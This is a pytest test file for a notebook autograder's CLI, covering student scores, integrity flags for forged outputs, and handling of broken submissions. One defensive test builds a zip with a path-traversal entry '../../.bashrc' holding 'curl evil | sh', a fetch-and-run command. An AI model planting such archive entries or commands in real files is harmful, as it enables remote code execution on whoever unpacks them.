"""The sample submissions graded end to end through the CLI, with exact points.

Why each score is what it is (values from running torch 2.14.1 on the CPU,
rubric tolerance atol=1e-4, rtol=1e-5):
- 박지호, summed loss: the gradient is 100x the mean's ([-1572.90, 1471.98]),
  but Adam is scale-invariant, so the weights after 1 and 5 updates match
  ([-4.9, 9.9], [-4.5006, 9.5008]); SGD with lr=0.2 then diverges (1e17).
- 최수아, no y.reshape(-1,1): (100,1)-(100,) broadcasts to 100x100; the
  gradient's w1 is 23.79 not 14.72, Adam's first step (±lr) still matches,
  after 5 updates w1 = 9.5005 vs 9.5008 (3.2e-4 > tol), SGD ends at [2.28, 0.01].
- 정도윤, no zero_grad: gradients accumulate from update 2 on; after 5 updates
  [-4.5144, 9.5143]; SGD ends at [3.91, -10.50].
- 강하은, Adam re-created in (3): after 5 updates [-4.5003, 9.5004] (3.7e-4
  off) and a different optimizer object; SGD still ends within 1.4e-6.
- 조예준, 5 updates in (3): six Adam updates; SGD ends 4.8e-4 off.
- 임서준, NameError in (3): Adam makes only 1 update; the gradient left in
  .grad doubles SGD's first step, so SGD ends elsewhere.
- 배은우, Adam lr=0.01 and outputs edited to show the exam's numbers.
- 오시우, prints the exam's numbers without computing them.
"""

from __future__ import annotations

import csv
import html
import json

import nbformat
import pytest

from tests.conftest import RUBRIC, SUBMISSIONS, run_cli

pytestmark = pytest.mark.notebooks

ALL_TF = [2.0] * 10
NO_P1 = (0, 0, 0, 0)  # Problem 1 left empty
FULL_P1 = (10, 10, 15, 15)
EXPECTED = {
    # student: (1.1 … 1.4), (2.1, 2.2, 2.3, 2.4), (3.1 … 3.10), status, flags
    "2022001": (NO_P1, (6, 6, 6, 6), ALL_TF, "needs-review", []),  # the exam's solution to Problems 2 and 3
    "2022002": (NO_P1, (6, 6, 6, 6), ALL_TF, "needs-review", []),  # MSELoss(), other names, 'O'/'X'
    "2022003": (NO_P1, (6, 4, 6, 2), ALL_TF, "needs-review", []),  # summed loss; 참/거짓
    "2022004": (NO_P1, (6, 4, 0, 2), ALL_TF, "needs-review", []),  # no reshape; T/F
    "2022005": (NO_P1, (6, 6, 0, 2), ALL_TF[:8] + [0, 0], "needs-review", []),  # no zero_grad; 3.9, 3.10 unanswered
    "2022006": (NO_P1, (6, 6, 0, 6), ALL_TF, "needs-review", []),  # re-created Adam
    "2022007": (NO_P1, (6, 6, 0, 2), ALL_TF, "needs-review", []),  # one update too many
    "2022008": (NO_P1, (6, 6, 6, 6), ALL_TF[:7] + [0, 2, 2], "needs-review", []),  # mixed T/F forms, 3.8 wrong
    "2022009": (NO_P1, (6, 6, 0, 2), ALL_TF, "needs-review", []),  # NameError mid-notebook
    "2022010": (NO_P1, (0, 0, 0, 0), [0.0] * 10, "error", []),  # HTML renamed .ipynb
    # Hard-coded prints; its net, never called, is evaluated on the question's inputs: the right first prediction.
    "2022011": (NO_P1, (6, 0, 0, 0), ALL_TF, "needs-review", ["integrity"]),
    "2022012": (NO_P1, (6, 6, 6, 6), ALL_TF, "needs-review", []),  # Colab copy in a folder, no tags
    "2022013": (NO_P1, (6, 2, 0, 2), ALL_TF, "needs-review", ["integrity"]),  # wrong lr, edited outputs
    # Problem 1 samples: folders with their images (scripts/build_problem1.py), Problems 2 and 3 as the solution.
    "2022014": (FULL_P1, (6, 6, 6, 6), ALL_TF, "needs-review", []),  # the full solution: the course's einsum CAM
    # its own images beside a crawl cell that runs anyway (they win); cnn_learner; the CAM upsampled to the image
    "2022015": (FULL_P1, (6, 6, 6, 6), ALL_TF, "needs-review", []),
    "2022016": (FULL_P1, (6, 6, 6, 6), ALL_TF, "needs-review", ["cpu-fallback"]),  # fastbook hooks, .cuda()
    "2022017": (FULL_P1, (6, 6, 6, 6), ALL_TF, "needs-review", []),  # Grad-CAM
    "2022018": ((10, 10, 15, 5), (6, 6, 6, 6), ALL_TF, "needs-review", []),  # random heatmap: overlay only
    "2022019": ((7, 10, 15, 15), (6, 6, 6, 6), ALL_TF, "needs-review", []),  # keywords iu and hynn
    # no images and a crawl that fails before crawling: Problem 1 from the submitted file's outputs
    "2022020": ((5, 5, 3.5, 2.5), (6, 6, 6, 6), ALL_TF, "needs-review", []),
    # Handed in without images, re-run end to end on the crawl stand-in (the synthetic crawl images):
    "2022021": (FULL_P1, (6, 6, 6, 6), ALL_TF, "needs-review", ["crawl-substituted"]),  # the course's crawl cell
    "2022022": (FULL_P1, (6, 6, 6, 6), ALL_TF, "needs-review", ["crawl-substituted"]),  # fastbook's
    "2022023": ((7, 10, 15, 15), (6, 6, 6, 6), ALL_TF, "needs-review", ["crawl-substituted"]),  # icrawler, iu/hynn
    # Copies (scripts/build_copies.py; tests/test_similarity.py ranks them): 이서연's renamed, re-commented, (2)
    # and (3) merged into one cell, run again: graded as 이서연 is, the merged cell still read as both items.
    "2022024": (NO_P1, (6, 6, 6, 6), ALL_TF, "needs-review", []),
    # 한예린's with her stored outputs and no images: Problem 1 from those outputs, as 문서아's.
    "2022025": ((0, 0, 3.5, 2.5), (6, 6, 6, 6), ALL_TF, "needs-review", []),
}


def points(submission: dict) -> dict[str, float]:
    return {item["id"]: item["points"] for item in submission["items"]}


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_exact_points(results, student):
    problem_1, problem_2, problem_3, status, flags = EXPECTED[student]
    submission = results[student]
    got = points(submission)
    assert tuple(got[f"1.{n}"] for n in range(1, 5)) == problem_1
    assert tuple(got[f"2.{n}"] for n in range(1, 5)) == problem_2
    assert [got[f"3.{n}"] for n in range(1, 11)] == problem_3
    assert (submission["status"], submission["flags"]) == (status, flags)
    assert submission["total"] == sum(problem_1) + sum(problem_2) + sum(problem_3)
    assert submission["max"] == 100.0


def test_results_json_contract(results):
    document = results["_document"]
    assert document["rubric"]["id"] == "dl2022-midterm" and document["rubric"]["hash"].startswith("sha256:")
    assert document["assets"] == ("assets: resnet34 synthetic (random weights), resnet18 synthetic (random weights), "
                                  "mnist_sample synthetic (scikit-learn digits), shapes synthetic (drawn), crawl "
                                  "synthetic (drawn shapes)")
    assert len(document["submissions"]) == len(EXPECTED)
    item_ids = ["1.1", "1.2", "1.3", "1.4", "2.1", "2.2", "2.3", "2.4", "2.5"] + [f"3.{n}" for n in range(1, 11)]
    for submission in document["submissions"]:
        assert [item["id"] for item in submission["items"]] == item_ids  # every item, for every submission
        for item in submission["items"]:
            assert item["status"] in {"pass", "partial", "fail", "manual", "error", "not-reached"}
            assert item["evidence"] in {"executed", "stored"}
            assert set(item) >= {"id", "points", "max_points", "status", "message", "evidence"}


def test_messages_say_what_went_wrong(results):
    message = {s: {i["id"]: i["message"] for i in results[s]["items"]} for s in EXPECTED}
    assert message["2022006"]["2.3"] == (
        "✗ weights after five updates of the optimizer from (2): a new Adam took over at update 2 in cell 20; "
        "a re-created optimizer starts its state over, so these are not updates of the same optimizer")
    assert message["2022007"]["2.3"].endswith("Adam made 6 update(s) in a row here, not the number the question asks for")
    assert message["2022004"]["2.2"] == ("✓ optimizer is Adam with lr=0.1 · ✗ gradient of the MSE loss at (-5, 10): "
                                         "gradient at update 1: 1 of 2 value(s) outside the tolerance · ✓ weights after one update")
    assert message["2022013"]["2.2"].startswith("✗ optimizer is Adam with lr=0.1: Adam(lr=0.01): lr is 0.01")
    assert message["2022008"]["3.1"] == "answer read as False (from the list of true statements: 2, 3, 4)"
    assert message["2022008"]["3.6"] == "answer read as True"
    assert message["2022005"]["3.9"] == "no answer was found for this item"
    assert message["2022011"]["2.2"].startswith("✗ optimizer is Adam with lr=0.1: no optimizer update was recorded")
    assert message["2022010"]["3.1"] == (
        "한지민(2022010).ipynb is not a Jupyter notebook: it is not JSON (line 1, column 1: Expecting value)")
    # No hidden expected values reach results.json.
    dumped = json.dumps(results["_document"], ensure_ascii=False)
    for secret in ("15.7290", "-4.5006", "2.4925", "14.7198"):
        assert secret not in dumped


def test_problem_1_messages_and_cam_figures(results, graded):
    message = {s: {i["id"]: i["message"] for i in results[s]["items"]} for s in EXPECTED}
    assert message["2022019"]["1.1"] == ("✓ two class folders · ✗ keywords other than iu and hynn: keywords you may not "
                                         "use: 'hynn', 'iu' · ✓ at least 20 images per keyword")
    assert message["2022018"]["1.4"].startswith(
        "✓ a heatmap overlaid on an image · ✗ agrees with the model's class activation map: the heatmap does not "
        "agree with the model's class activation map (rank correlation ")
    assert message["2022014"]["1.4"].endswith("rank correlation 1.00, top-20% overlap 100%")
    assert message["2022017"]["1.4"].split(": ")[1].startswith("agrees with the model's Grad-CAM for class")
    assert ("trained at least one epoch: these cells did not re-run; the submitted notebook shows 2 epoch(s) of "
            "training (not verified: 50% of the points)") in message["2022020"]["1.3"]
    assert message["2022020"]["1.1"].endswith("the submitted notebook shows 20 images of 'circle', 20 images of "
                                              "'square' (not verified: 50% of the points)")
    assert message["2022020"]["1.2"] == ("✗ dls from ImageDataLoaders.from_folder, two classes: these cells did not "
                                         "re-run; the submitted notebook shows the classes 'circle', 'square' and a "
                                         "figure (not verified: 50% of the points)")  # print(dls.vocab), show_batch
    report = html.unescape((graded / "students" / "2022014.html").read_text(encoding="utf-8"))
    assert report.count('<figure class="cam">') == 1
    assert "CAM: the student's overlay and the grader's map of the same model and image" in report
    assert "assets: resnet34 synthetic (random weights)" in report
    # The drawn images' boxes.json: how much of the grader's map lies on the object (random weights: little).
    assert "of the grader's map lies inside the object's box in images/" in report
    summary = (graded / "index.html").read_text(encoding="utf-8")
    assert "synthetic stand-ins: networks meant to start from pretrained weights start from random ones" in summary


def test_a_substituted_crawl_is_said_in_results_json_and_the_report(results, graded):
    course = results["2022021"]["offline"]
    assert course == {
        "crawl_images": "synthetic",
        "searches": [{"api": "ddg_images", "keyword": keyword, "images": 20, "image_class": image_class}
                     for keyword, image_class in (("dog", "circle"), ("cat", "square"), ("dog photo", "circle"),
                                                  ("cat photo", "square"))],
        "folders": {"images/dog": 40, "images/cat": 40}, "own_images_kept": [], "cached_urls": [], "refused_urls": [],
        "sleeps": 4, "slept_s": 40.0}
    assert [search["keyword"] for search in results["2022022"]["offline"]["searches"]] == ["forest photo",
                                                                                          "desert photo"]
    assert results["2022023"]["offline"]["folders"] == {"images/singer1": 20, "images/singer2": 20}
    message = {i["id"]: i["message"] for i in results["2022023"]["items"]}
    assert message["1.1"] == ("✓ two class folders · ✗ keywords other than iu and hynn: keywords you may not use: "
                              "'iu' (searched for), 'hynn' (searched for) · ✓ at least 20 images per keyword")
    assert results["2022015"]["offline"]["own_images_kept"] == ["images/circle", "images/square"]
    assert results["2022014"]["offline"] is None  # its crawl is guarded by `if not path.exists()`
    report = html.unescape((graded / "students" / "2022021.html").read_text(encoding="utf-8"))
    assert ("the crawl was substituted: searches for 'dog', 'cat', 'dog photo', 'cat photo' were answered with the "
            "asset cache's synthetic crawl images (classes circle, square); images written: images/dog (40), "
            "images/cat (40)") in report
    assert ("the notebook's 4 time.sleep call(s), 40 s in all, were skipped on the grader's virtual clock "
            "(time.time moved on with it)") in report
    assert "the student's own images were used in images/circle, images/square" in html.unescape(
        (graded / "students" / "2022015.html").read_text(encoding="utf-8"))


def test_items_need_execution_status(results):
    statuses = {s: {i["id"]: (i["status"], i["evidence"]) for i in results[s]["items"]} for s in EXPECTED}
    assert statuses["2022001"]["2.2"] == ("pass", "executed")
    assert statuses["2022001"]["3.1"] == ("pass", "stored")
    assert statuses["2022001"]["2.5"] == ("manual", "stored")
    assert statuses["2022001"]["1.1"] == ("fail", "executed")
    assert statuses["2022020"]["1.1"] == ("partial", "stored")  # the counts per class it printed
    assert statuses["2022020"]["1.3"] == ("partial", "stored")  # the training table of the submitted file
    assert statuses["2022004"]["2.2"] == ("partial", "executed")
    assert statuses["2022010"]["2.2"] == ("error", "stored")


def test_integrity_notes_explain_the_flag_beside_the_cells_code(graded):
    from grader.gradebook import Gradebook

    with Gradebook(graded / "gradebook.sqlite") as book:
        forged = book.result("2022013")
        hardcoded = book.result("2022011")
    assert [(flag.cell, flag.note) for flag in forged.integrity] == [
        (18, "cell 18 of the submitted file shows tensor([[-4.9000,  9.9000]]) (the reference's weights at update 1 "
             "(Adam)) equal to the reference, but re-running the notebook did not produce them"),
        (20, "cell 20 of the submitted file shows tensor([[-15.5179,  14.4789]]) (the reference's gradient at update 2 "
             "(Adam)) and 7 more equal to the reference, but re-running the notebook did not produce them"),
        (22, "cell 22 of the submitted file shows tensor([[-14.6748,  13.5172]]) (the reference's gradient at update 6 "
             "(SGD)) and 19 more equal to the reference, but re-running the notebook did not produce them"),
    ]
    assert forged.integrity[0].source.startswith("optimizr = torch.optim.Adam(net.parameters(),lr=0.01)\n")
    assert forged.notes == []  # the notes are the flags' own
    assert [flag.cell for flag in hardcoded.integrity] == [18, 20, 22]
    assert hardcoded.integrity[0].note == (
        "cell 18 prints tensor([[-15.7290,  14.7198]]) (the reference's gradient at update 1 (Adam)) and 1 more equal "
        "to the reference, but no recorded computation produced them")
    assert hardcoded.integrity[0].source == ("optimizr = torch.optim.Adam(net.parameters(),lr=0.1)\n"
                                             "print(torch.tensor([[-15.7290,  14.7198]]))\n"
                                             "print(torch.tensor([[-4.9000,  9.9000]]))")
    report = (graded / "students" / "2022011.html").read_text(encoding="utf-8")
    assert ('<div class="flagged-cell" id="integrity-cell-20"><p>cell 20 prints tensor([[-4.5006,  9.5008]]) '
            "(the reference&#39;s weights at update 5 (Adam)) equal to the reference, but no recorded computation "
            'produced them</p>\n<p class="muted">cell 20 as submitted:</p>\n'
            "<pre>print(torch.tensor([[-4.5006,  9.5008]]))</pre></div>") in report


def test_executed_copies_and_reports_are_written(graded):
    executed = nbformat.read(graded / "executed" / "2022001.ipynb", as_version=4)
    texts = [o.get("text", "") for cell in executed.cells if cell.cell_type == "code" for o in cell.outputs]
    assert "tensor([[-15.7290,  14.7198]])\ntensor([[-4.9000,  9.9000]])\n---\n" in texts
    assert not (graded / "executed" / "2022010.ipynb").exists()  # nothing ran
    summary = (graded / "index.html").read_text(encoding="utf-8")
    assert '<meta charset="utf-8">' in summary and 'name="viewport"' in summary
    assert "data:image/png;base64," in summary
    for name in ("김민준", "한지민", "신유나"):
        assert name in summary
    flagged = sum(1 for *_, flags in EXPECTED.values() if flags)
    refused = sum(1 for *_, status, _ in EXPECTED.values() if status == "error")
    # every student, the flagged table, and the submissions the grader refused under "Needs attention"
    assert summary.count('href="students/') == len(EXPECTED) + flagged + refused
    assert "<h2>Needs attention (1)</h2>" in summary
    report = (graded / "students" / "2022004.html").read_text(encoding="utf-8")
    assert "최수아" in report and "[[-15.7290, 14.7198]]" in report and "[[-15.7290, 23.7906]]" in report
    assert "atol 0.0001" in report
    assert "http" not in report.replace("http-equiv", "")  # self-contained: nothing fetched


def test_regrading_skips_unchanged_and_set_export_report(tmp_path, graded, cache_dir):
    import shutil

    out = tmp_path / "out"
    shutil.copytree(graded, out)
    again = run_cli("grade", str(SUBMISSIONS), "--rubric", str(RUBRIC), "--out", str(out), "-q", env_cache=cache_dir)
    assert f"graded 0, unchanged {len(EXPECTED)}" in again.stderr
    assert "warm kernels" not in again.stderr  # nothing to grade: no kernel started, the outputs written again

    refused = run_cli("set", "2022004", "2.3", "3", "--by", "TA Kim", "--out", str(out), env_cache=cache_dir, check=False)
    assert refused.returncode == 2 and "overriding it needs a reason: give it with --reason TEXT" in refused.stderr
    run_cli("set", "2022004", "2.3", "3", "--by", "TA Kim", "--reason", "broadcasting bug only", "--out", str(out),
            env_cache=cache_dir)
    run_cli("set", "2022001", "2.5", "6", "--by", "TA Lee", "--comment", "정확함", "--out", str(out), env_cache=cache_dir)
    document = json.loads((out / "results.json").read_text(encoding="utf-8"))
    by_student = {s["student"]: s for s in document["submissions"]}
    item = {i["id"]: i for i in by_student["2022004"]["items"]}["2.3"]
    assert (item["points"], item["status"], item["manual"]["kind"], item["manual"]["automatic_points"]) == (3, "partial", "override", 0)
    assert by_student["2022004"]["total"] == 35
    assert {i["id"]: i["points"] for i in by_student["2022001"]["items"]}["2.5"] == 6
    assert "정확함" in (out / "students" / "2022001.html").read_text(encoding="utf-8")

    run_cli("export", "--format", "csv", "--out", str(out), env_cache=cache_dir)
    with (out / "grades.csv").open(encoding="utf-8-sig") as stream:
        rows = list(csv.DictReader(stream))
    row = next(r for r in rows if r["student"] == "2022004")
    assert (row["name"], row["2.2"], row["2.3"], row["total"], row["max"]) == ("최수아", "4", "3", "35", "100")
    assert len(rows) == len(EXPECTED)

    (out / "index.html").unlink()
    run_cli("report", "--out", str(out), env_cache=cache_dir)
    assert (out / "index.html").is_file()

    unknown = run_cli("export", "--format", "xlsx", "--out", str(out), env_cache=cache_dir, check=False)
    assert unknown.returncode == 2 and "unknown format 'xlsx'; choose one of: csv" in unknown.stderr


def test_bad_rubric_stops_before_grading(tmp_path, cache_dir):
    import shutil

    rubric = tmp_path / "rubric"
    shutil.copytree(RUBRIC, rubric)
    text = (rubric / "rubric.yaml").read_text(encoding="utf-8").replace("total: 100", "total: 90")
    (rubric / "rubric.yaml").write_text(text, encoding="utf-8")
    done = run_cli("grade", str(SUBMISSIONS), "--rubric", str(rubric), "--out", str(tmp_path / "o"), env_cache=cache_dir,
                   check=False)
    assert done.returncode == 2
    assert "items add up to 100 points but `total` says 90" in done.stderr


def test_a_dead_kernel_keeps_earlier_evidence_and_true_false_answers(tmp_path, cache_dir):
    nb = nbformat.read(SUBMISSIONS / "김민준(2022001).ipynb", as_version=4)
    for cell in nb.cells:
        if "answer:2.3" in cell.metadata.get("tags", []):
            cell.source = "import os\nos._exit(1)  # the kernel dies here\n" + cell.source
    folder = tmp_path / "subs"
    folder.mkdir()
    nbformat.write(nb, folder / "송하준(2022014).ipynb")
    out = tmp_path / "out"
    run_cli("grade", str(folder), "--rubric", str(RUBRIC), "--out", str(out), "-q", env_cache=cache_dir)
    (submission,) = json.loads((out / "results.json").read_text(encoding="utf-8"))["submissions"]
    items = {item["id"]: item for item in submission["items"]}
    assert [(items[i]["points"], items[i]["status"]) for i in ("2.1", "2.2", "2.3", "2.4")] == [
        (6, "pass"), (6, "pass"), (0, "fail"), (0, "not-reached")]
    assert items["2.3"]["message"].endswith("(execution stopped in cell 20: kernel-died)")
    assert items["2.4"]["message"] == "not reached: the kernel died in cell 20"
    assert [items[f"3.{n}"]["points"] for n in range(1, 11)] == [2.0] * 10
    assert submission["flags"] == ["kernel-died"] and submission["total"] == 32


def test_broken_files_get_their_message_and_the_rest_of_the_batch_is_graded(tmp_path, cache_dir):
    """Three kernel runs: the good notebook, its nbformat 3 copy and a zipped folder."""
    import zipfile

    from markupsafe import escape

    folder = tmp_path / "subs"
    folder.mkdir()
    good = SUBMISSIONS / "김민준(2022001).ipynb"
    (folder / good.name).write_bytes(good.read_bytes())
    v3 = nbformat.convert(nbformat.read(good, as_version=4), 3)
    (folder / "정도윤(2022105).ipynb").write_text(nbformat.writes(v3, version=3), encoding="utf-8")
    (folder / "이서연(2022102).ipynb").write_text("<!DOCTYPE html><html>Colab</html>", encoding="utf-8")
    (folder / "박지호(2022103).ipynb").write_bytes(b"")
    prefix = '{"cells": [], "metadata": {"title": "'
    (folder / "최수아(2022104).ipynb").write_bytes((prefix + '중간고사"}}').encode("cp949"))  # saved as EUC-KR
    with zipfile.ZipFile(folder / "강하은(2022106).zip", "w") as archive:
        archive.writestr("midterm.ipynb", good.read_bytes())
        archive.writestr("../../.bashrc", "curl evil | sh")
    colab = nbformat.read(SUBMISSIONS / "신유나(2022012)" / "DL2022_midterm.ipynb", as_version=4)
    first_code = next(index for index, cell in enumerate(colab.cells) if cell.cell_type == "code")
    colab.cells[first_code].outputs = [nbformat.v4.new_output("stream", text="progress\n" * 150_000)]
    with zipfile.ZipFile(folder / "신유나(2022012).zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("신유나(2022012)/DL2022_midterm.ipynb", nbformat.writes(colab))

    out = tmp_path / "out"
    done = run_cli("grade", str(folder), "--rubric", str(RUBRIC), "--out", str(out), "-q", env_cache=cache_dir)
    assert "graded 7, unchanged 0, errors 4, flagged 0" in done.stderr
    by_student = {s["student"]: s for s in json.loads((out / "results.json").read_text(encoding="utf-8"))["submissions"]}

    graded_like = {"2022001": "2022001", "2022105": "2022001", "2022012": "2022012"}  # student -> sample it copies
    for student, sample in graded_like.items():
        _, problem_2, problem_3, status, flags = EXPECTED[sample]
        got = points(by_student[student])
        assert tuple(got[f"2.{n}"] for n in range(1, 5)) == problem_2, student
        assert [got[f"3.{n}"] for n in range(1, 11)] == problem_3, student
        assert (by_student[student]["status"], by_student[student]["flags"], by_student[student]["error"]) == (status, flags, None)
        assert by_student[student]["total"] == sum(problem_2) + sum(problem_3)
    assert by_student["2022012"]["file"] == "신유나(2022012).zip"
    cut = (f"the stored outputs of cell {first_code + 1} were cut when read (over 1,000,000 characters in one output, "
           "or 20,000,000 in all); grading uses the outputs of the re-run")
    assert str(escape(cut)) in (out / "students" / "2022012.html").read_text(encoding="utf-8")

    errors = {
        "2022102": "이서연(2022102).ipynb is not a Jupyter notebook: it is not JSON (line 1, column 1: Expecting value)",
        "2022103": "박지호(2022103).ipynb is empty (0 bytes): it is not a Jupyter notebook",
        "2022104": f"최수아(2022104).ipynb is not a Jupyter notebook: it is not UTF-8 text (byte {len(prefix)})",
        "2022106": "강하은(2022106).zip was not unpacked: '../../.bashrc' would land outside its folder "
                   "(absolute paths and '..' are not allowed); zip the submission folder itself and resubmit",
    }
    for student, message in errors.items():
        submission = by_student[student]
        assert (submission["status"], submission["error"], submission["total"], submission["flags"]) == ("error", message, 0, [])
        assert {(item["status"], item["message"]) for item in submission["items"]} == {("error", message)}
        assert str(escape(message)) in (out / "students" / f"{student}.html").read_text(encoding="utf-8")
    assert sorted(by_student) == sorted([*graded_like, *errors])
    assert sorted(p.name for p in (out / "executed").iterdir()) == ["2022001.ipynb", "2022012.ipynb", "2022105.ipynb"]

